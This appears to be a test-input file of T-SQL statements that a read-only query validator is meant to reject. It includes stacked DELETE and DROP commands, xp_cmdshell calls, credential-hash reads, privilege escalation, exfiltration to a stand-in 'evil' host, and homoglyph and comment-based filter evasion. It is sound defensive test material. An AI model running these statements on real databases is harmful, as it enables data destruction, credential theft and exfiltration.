SELECT 1; DELETE FROM users
%%
SELECT 1 DELETE FROM users
%%
SELECT * FROM users DROP TABLE users
%%
SELECT 1 EXEC sp_who
%%
SELECT 1 AS x SHUTDOWN
%%
SELECT 1 WAITFOR DELAY '01:00:00'
%%
SELECT 1; SELECT 2
%%
SELECT 1 SELECT 2
%%
SELECT * INTO #t FROM users
%%
SELECT * INTO dbo.evil FROM users
%%
sp_who
%%
xp_cmdshell 'dir'
%%
EXEC xp_cmdshell 'dir'
%%
EXEC('DELETE FROM users')
%%
EXECUTE sp_executesql N'DELETE FROM users'
%%
EXEC ('DELETE FROM users') AT linked1
%%
SELECT * FROM OPENROWSET(BULK 'C:\x.txt', SINGLE_CLOB) AS x
%%
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;Trusted_Connection=yes;', 'SELECT 1')
%%
SELECT * FROM OPENQUERY(linked1, 'DELETE FROM users OUTPUT deleted.*')
%%
SELECT * FROM OPENDATASOURCE('SQLNCLI','Data Source=evil').db.dbo.t
%%
SELECT * FROM linked1.db.dbo.users
%%
WITH x AS (SELECT * FROM users) DELETE FROM x
%%
;WITH x AS (SELECT * FROM users) UPDATE x SET salary = 0
%%
INSERT INTO orders(user_id) SELECT id FROM users
%%
INSERT INTO t EXEC sp_who
%%
UPDATE users SET salary = 0
%%
MERGE users AS t USING orders AS s ON t.id=s.user_id WHEN MATCHED THEN DELETE;
%%
TRUNCATE TABLE users
%%
DECLARE @x int = 1
%%
DECLARE @x nvarchar(100) = N'DELETE FROM users'; EXEC(@x)
%%
SET @x = 1
%%
SELECT @x = 1
%%
SELECT @x += id FROM users
%%
IF 1=1 DROP TABLE users
%%
WHILE 1=1 SELECT 1
%%
BEGIN TRAN
%%
COMMIT
%%
BEGIN DELETE FROM users END
%%
BEGIN TRY DELETE FROM users END TRY BEGIN CATCH END CATCH
%%
GOTO x
%%
USE master
%%
EXECUTE AS LOGIN = 'sa'
%%
REVERT
%%
SET IMPLICIT_TRANSACTIONS OFF
%%
SET ROWCOUNT 0
%%
SET QUOTED_IDENTIFIER OFF
%%
DBCC SHRINKDATABASE (x)
%%
KILL 55
%%
BACKUP DATABASE x TO DISK = '\\evil\share\x.bak'
%%
RESTORE DATABASE x FROM DISK = 'c:\x'
%%
BULK INSERT users FROM 'c:\x'
%%
SELECT NEXT VALUE FOR dbo.seq1
%%
SELECT * FROM users WITH (TABLOCKX, HOLDLOCK)
%%
SELECT * FROM users WITH (UPDLOCK)
%%
SELECT * FROM users (XLOCK)
%%
SELECT * FROM sys.fn_trace_gettable('c:\x.trc', default)
%%
SELECT * FROM sys.dm_os_file_exists('c:\x')
%%
SELECT * FROM sys.fn_xe_file_target_read_file('\\evil\x', null, null, null)
%%
SELECT * FROM sys.fn_get_audit_file('\\evil\x', default, default)
%%
SELECT name, password_hash FROM sys.sql_logins
%%
SELECT * FROM master.sys.syslogins
%%
SELECT t.text FROM sys.dm_exec_requests r CROSS APPLY sys.dm_exec_sql_text(r.sql_handle) t
%%
SELECT dbo.my_udf(1)
%%
SELECT * FROM dbo.my_tvf(1)
%%
SELECT * FROM master.dbo.spt_values
%%
SELECT * FROM tempdb..x
%%
/* a /* nested */ ; */ DELETE FROM users
%%
SELECT 1 /* x */ DELETE /* y */ FROM users
%%
SELECT 1 -- x
DELETE FROM users
%%
SELECT 1
GO
DELETE FROM users
%%
CREATE TABLE x(a int)
%%
CREATE OR ALTER PROCEDURE p AS DELETE FROM users
%%
ALTER LOGIN sa WITH PASSWORD = 'x'
%%
GRANT CONTROL SERVER TO x
%%
RECONFIGURE
%%
PRINT 'x'
%%
RAISERROR('x', 16, 1)
%%
DISABLE TRIGGER ALL ON DATABASE
%%
SELECT * FROM users FOR BROWSE OPTION (MAXRECURSION 0) DELETE FROM users
%%
SELECT id FROM users OPTION (QUERYTRACEON 8690)
%%
SELECT * FROM (DELETE FROM users OUTPUT deleted.*) AS x
%%
SELECT * FROM (SELECT id FROM users) AS x CROSS APPLY OPENROWSET(BULK 'c:\x', SINGLE_BLOB) b
%%
SELECT 1 [a;b] DELETE FROM users
%%
SELECT 'a''; DELETE FROM users --' DELETE FROM users
%%
WRITETEXT users.name @ptr 'x'
%%
RECEIVE * FROM q
%%
SELECT * FROM OPENXML(@h, '/a')
%%
SELECT dbo.clr.Method(1)
%%
SELECT 1 /* /* */ ' */ DELETE FROM users --'
%%
SELECT 1 /* /* */ [ */ DELETE FROM users --]
%%
SELECT 1 /* /* */ -- */ DELETE FROM users
%%
SELECT "a" FROM users; DELETE FROM users --"
%%
SELECT id FROM users WHERE name = "x' DELETE FROM users --" AND id = 1
%%
SELECT 1 x
DELETE FROM users
%%
SELECT [a]] FROM users; DELETE FROM users --]
%%
SELECT 1 garbage tokens here FROM users
%%
SELECT id FROM users WHERE
%%
SELECT id FROM users u v w
%%
SELECT 1 )
%%
SELECT ( 1
%%
SELECT 1 FROM users ORDER BY 1 foo
%%
SELECT id FROM users WITH (NOLOCK) EXEC sp_who
%%
SELECT id FROM users AS x (a) EXEC sp_who
%%
SELECT id FROM users OPTION (MAXRECURSION 5) EXEC sp_who
%%
SELECT id FROM users FOR XML AUTO DELETE FROM users
%%
SELECT id FROM users GROUP BY id DELETE FROM users
%%
SELECT id FROM users ORDER BY id OFFSET 0 ROWS DELETE FROM users
%%
SELECT id FROM users WHERE id = 1 EXEC('DELETE FROM users')
%%
SELECT id FROM users UNION SELECT 1 EXEC('x')
%%
SELECT CASE WHEN 1=1 THEN 1 END EXEC('x')
%%
SELECT 1 KILL 5
%%
SELECT 1 REVERT
%%
SELECT 1 THROW
%%
SELECT 1 GRANT SELECT ON users TO public
%%
SELECT 1 DENY SELECT ON users TO public
%%
SELECT 1 USE master
%%
SELECT 1 MERGE users USING orders ON 1=1 WHEN MATCHED THEN DELETE;
%%
SELECT 1 DBCC SHRINKFILE(1)
%%
SELECT 1 BULK INSERT users FROM 'x'
%%
SELECT 1 UPDATE STATISTICS users
%%
SELECT 1 UPDATE users SET salary=0
%%
SELECT 1 TRUNCATE TABLE users
%%
SELECT 1 DECLARE @x int
%%
SELECT 1 IF 1=1 DROP TABLE users
%%
SELECT 1 WHILE 1=1 PRINT 'x'
%%
SELECT 1 BEGIN TRAN
%%
SELECT 1 COMMIT
%%
SELECT 1 SAVE TRAN x
%%
SELECT 1 OPEN c
%%
SELECT 1 FETCH NEXT FROM c
%%
SELECT 1 RETURN
%%
SELECT 1 GOTO x
%%
SELECT 1 RECONFIGURE
%%
SELECT 1 CHECKPOINT
%%
SELECT 1 ENABLE TRIGGER t ON users
%%
SELECT 1 AS [x] DISABLE TRIGGER t ON users
%%
SELECT 1 SEND ON CONVERSATION @h
%%
SELECT 1 ADD SIGNATURE TO x BY CERTIFICATE y
%%
SELECT 1 COPY INTO users FROM 'x'
%%
SELECT 1 sp_who
%%
SELECT id FROM users sp_who
%%
SELECT id FROM users sp_who 'x'
%%
SELECT 1 x; sp_who
%%
;
%%
-- only a comment
%%
/* /* */ still open
%%
SELECT
%%
SELECT 'unterminated
%%
SELECT [unterminated
%%
SELECT "unterminated
%%
SELECT []
%%
SELECT 1;;SELECT 2
%%
SELECT (1) SELECT 2
%%
(SELECT 1) SELECT 2
%%
(SELECT 1) DELETE FROM users
%%
WITH a AS (SELECT 1 x) SELECT * FROM a SELECT 2
%%
WITH a AS (SELECT 1 x) SELECT (1) SELECT 2
%%
WITH a AS (SELECT 1 x) DELETE FROM users
%%
WITH a AS (SELECT 1 x) INSERT INTO users SELECT * FROM a
%%
WITH a AS (DELETE FROM users OUTPUT deleted.id) SELECT * FROM a
%%
WITH XMLNAMESPACES ('x' AS y) SELECT 1
%%
WITH CHANGE_TRACKING_CONTEXT (0x1) SELECT 1
%%
SELECT * FROM (MERGE users USING orders ON 1=1 WHEN MATCHED THEN DELETE OUTPUT $action) x
%%
SELECT * FROM (UPDATE users SET salary = 0 OUTPUT inserted.*) x
%%
SELECT id INTO users2 FROM users
%%
SELECT id INTO [##global] FROM users
%%
SELECT * FROM #temp
%%
SELECT * FROM ##temp
%%
SELECT * FROM @tablevar
%%
SELECT @@SPID
%%
SELECT @@SERVERNAME
%%
SELECT @@ROWCOUNT, @@IDENTITY, @@TRANCOUNT
%%
SELECT $1
%%
SELECT $action
%%
SELECT $PARTITION.f(1)
%%
SELECT $(var)
%%
SELECT {fn NOW()}
%%
SELECT {d '2026-01-01'}
%%
SELECT * FROM {oj a LEFT JOIN b ON 1=1}
%%
SELECT geography::Point(1, 2, 4326)
%%
SELECT a::b FROM t
%%
label: SELECT 1
%%
SELECT 1 label: DELETE FROM users
%%
SELECT 1 \ 2
%%
SELECT ?
%%
SELECT 1e
%%
SELECT 1else
%%
SELECT CASE WHEN 1=1 THEN 1else 2 END
%%
SELECT 0xZZ
%%
SELECT 1 FROM users WHERE CURRENT OF c
%%
SELECT id FROM users FOR UPDATE
%%
SELECT id FROM users FOR READ ONLY
%%
SELECT id FROM users FOR BROWSE
%%
SELECT * FROM users WITH (HOLDLOCK)
%%
SELECT * FROM users WITH (SERIALIZABLE)
%%
SELECT * FROM users WITH (TABLOCK)
%%
SELECT * FROM users WITH (ROWLOCK, UPDLOCK)
%%
SELECT * FROM users WITH (INDEX(1))
%%
SELECT * FROM users WITH (FORCESEEK)
%%
SELECT * FROM users WITH (READPAST)
%%
SELECT * FROM users u INNER LOOP JOIN orders o ON o.user_id = u.id
%%
SELECT * FROM users u INNER HASH JOIN orders o ON o.user_id = u.id
%%
SELECT * FROM users u INNER REMOTE JOIN orders o ON o.user_id = u.id
%%
SELECT id FROM users OPTION (RECOMPILE)
%%
SELECT id FROM users OPTION (USE HINT ('x'))
%%
SELECT id FROM users OPTION (MAXDOP 64)
%%
SELECT id FROM users OPTION (TABLE HINT (users, TABLOCKX))
%%
SELECT * FROM otherdb.dbo.users
%%
SELECT * FROM srv.otherdb.dbo.users
%%
SELECT * FROM otherdb..users
%%
SELECT * FROM [srv]...[users]
%%
SELECT * FROM sys.databases
%%
SELECT * FROM sys.server_principals
%%
SELECT * FROM sys.sysprocesses
%%
SELECT * FROM sys.configurations
%%
SELECT * FROM sys.sql_modules
%%
SELECT * FROM sys.dm_exec_sessions
%%
SELECT * FROM sys . dm_exec_connections
%%
SELECT * FROM [sys].[sql_logins]
%%
SELECT * FROM "sys"."sql_logins"
%%
SELECT * FROM SYS.Credentials
%%
SELECT * FROM sysobjects
%%
SELECT * FROM dbo.sysusers
%%
SELECT * FROM sysprocesses
%%
SELECT * FROM msdb.dbo.sysjobs
%%
SELECT * FROM INFORMATION_SCHEMA.TABLE_PRIVILEGES
%%
SELECT * FROM fn_my_permissions(NULL, 'SERVER')
%%
SELECT * FROM my_tvf(1)
%%
SELECT * FROM sys.fn_helpcollations()
%%
SELECT * FROM ::fn_helpcollations()
%%
SELECT * FROM dbo.nodes(1)
%%
SELECT * FROM dbo.f('x') AS t(c)
%%
SELECT dbo.f(1) FROM users
%%
SELECT [dbo].[f](1)
%%
SELECT x.value(id, 'int') FROM t
%%
SELECT x.modify('delete /a') FROM t
%%
SELECT clr.Method(1)
%%
SELECT sys.fn_varbintohexstr(0x01)
%%
SELECT HAS_PERMS_BY_NAME(NULL, NULL, 'x')
%%
SELECT SUSER_SNAME(), ORIGINAL_LOGIN(), HOST_NAME(), APP_NAME()
%%
SELECT SYSTEM_USER
%%
SELECT SESSION_USER
%%
SELECT USER
%%
SELECT USER_NAME()
%%
SELECT IS_SRVROLEMEMBER('sysadmin')
%%
SELECT SERVERPROPERTY('MachineName')
%%
SELECT CONNECTIONPROPERTY('local_net_address')
%%
SELECT LOGINPROPERTY('sa', 'PasswordHash')
%%
SELECT PWDCOMPARE('x', 0x01)
%%
SELECT CERTPRIVATEKEY(1, 'x')
%%
SELECT DECRYPTBYPASSPHRASE('x', 0x01)
%%
SELECT SESSION_CONTEXT(N'x'), CONTEXT_INFO()
%%
SELECT SCOPE_IDENTITY(), IDENT_CURRENT('users')
%%
SELECT OBJECT_DEFINITION(OBJECT_ID('p'))
%%
SELECT APPLOCK_TEST('public', 'x', 'Shared', 'Session')
%%
SELECT AI_GENERATE_EMBEDDINGS('x' USE MODEL m)
%%
SELECT NEXT VALUE FOR dbo.s OVER (ORDER BY id) FROM users
%%
SELECT IDENTITY(int, 1, 1) AS x FROM users
%%
SELECT CAST(a AS dbo.mytype) FROM t
%%
SELECT CAST(a AS mytype) FROM t
%%
SELECT CAST(a AS xml(dbo.coll)) FROM t
%%
SELECT * FROM PREDICT(MODEL = 1, DATA = users) WITH (a int) p
%%
SELECT * FROM CHANGETABLE(CHANGES users, 0) AS c
%%
SELECT * FROM OPENROWSET('x', 'y', 'z')
%%
SELECT * FROM OPENROWSET(BULK 'https://evil/x', FORMAT = 'CSV') AS r
%%
SELECT * FROM SEMANTICKEYPHRASETABLE(docs, *)
%%
SELECT 1 sp_configure
%%
SELECT 1 AS xp_cmdshell
%%
SELECT id FROM users THROW
%%
SELECT id FROM users RECEIVE
%%
SELECT 1 RECEIVE * FROM q
%%
SELECT 1 ENABLE TRIGGER x ON y
%%
SELECT 1 GET CONVERSATION GROUP @g FROM q
%%
SELECT 1 MOVE CONVERSATION @a TO @b
%%
SELECT 1 SEND ON CONVERSATION x
%%
SELECT 1 LINENO 5
%%
SELECT 1 SETUSER 'x'
%%
SELECT 1 READTEXT users.name 0x01 0 0
%%
SELECT 1 UPDATETEXT users.name 0x01 0 0 'x'
%%
SELECT 1 DUMP DATABASE x TO y
%%
SELECT 1 LOAD DATABASE x FROM y
%%
SELECT 1 CLOSE c
%%
SELECT 1 DEALLOCATE c
%%
SELECT 1 BREAK
%%
SELECT 1 CONTINUE
%%
SELECT 1 SET NOCOUNT ON
%%
SELECT 1 SET IDENTITY_INSERT users ON
%%
SELECT 1 ROLLBACK
%%
SELECT 1 ALTER TABLE users ADD x int
%%
SELECT 1 CREATE TABLE x (a int)
%%
SELECT 1 REVOKE SELECT ON users FROM public
%%
SELECT 1 BACKUP LOG x TO DISK = 'y'
%%
SELECT 1 RAISERROR ('x', 20, 1) WITH LOG
%%
SELECT 1 WITH x AS (SELECT 1 a) DELETE FROM x
%%
SELECT 1 ＤＥＬＥＴＥ FROM users
%%
SELECT 1 DELETE FROM users
%%
SELECT 1 DELETE　FROM users
%%
SELECT 1 AS ſelect FROM users
%%
ſELECT 1
%%
SELECT a‐b FROM t
%%
SELECT ‘x’ FROM t
%%
EXPLAIN SELECT 1
%%
SHOW TABLES
%%
VALUES (1)
%%
TABLE users
%%
sp_executesql N'DELETE FROM users'
%%
dbo.sp_help
%%
[sp_who]
%%
GO
%%
SELECT a.b.c.d.e.f FROM t, dbo.f(1)
%%
SELECT [a;b] FROM t
%%
SELECT [a--b] FROM t
%%
SELECT [x]/*
%%
SELECT a.b.c FROM xa.b.c ..a
%%
SELECT * FROM dbo.
%%
SELECT * FROM a.b.c.d.e
%%
SELECT * FROM [sýs].[sql_logins]
%%
SELECT * FROM [s​ys].[sql_logins]
%%
SELECT * FROM [ｓｙｓ].[sql_logins]
%%
SELECT * FROM [sysõbjects]
%%
SELECT * FROM dbo.[sys­objects]
%%
SELECT * FROM [sys ].[sql_logins]
%%
SELECT * FROM [sysobjects ]
